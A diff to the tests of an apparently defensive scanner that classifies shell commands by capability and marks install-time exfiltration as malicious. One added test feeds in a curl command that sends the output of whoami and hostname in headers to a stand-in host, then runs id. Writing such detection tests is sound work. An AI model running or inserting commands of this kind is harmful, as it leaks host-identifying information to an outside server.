@@ -33,7 +33,7 @@ def test_capabilities_of_a_command_line() -> None:
 
 
 def test_build_tools_have_no_capabilities() -> None:
-    assert shell_capabilities("cmake --build . && make -j4 && git describe --tags") == set()
+    assert shell_capabilities("cmake --build . && make -j4 && git describe --tags") == []
 
 
 def test_install_time_shell_exfiltration_is_malicious() -> None:
@@ -45,3 +45,9 @@ def test_install_time_shell_exfiltration_is_malicious() -> None:
     caps = {(c.id, c.phase) for c in result.capabilities}
     assert ("net.http.request", Phase.INSTALL) in caps and ("host.env.dump", Phase.INSTALL) in caps
     assert result.verdict.label == "malicious", [(f.rule, f.message) for f in result.findings]
+
+
+def test_capabilities_come_in_command_order() -> None:
+    found = shell_capabilities('curl -H "u: $(whoami)" -H "h: $(hostname)" https://x.invalid; id')
+    programs = [program for cap, program in found if cap == "host.fingerprint"]
+    assert programs == ["whoami", "hostname", "id"]
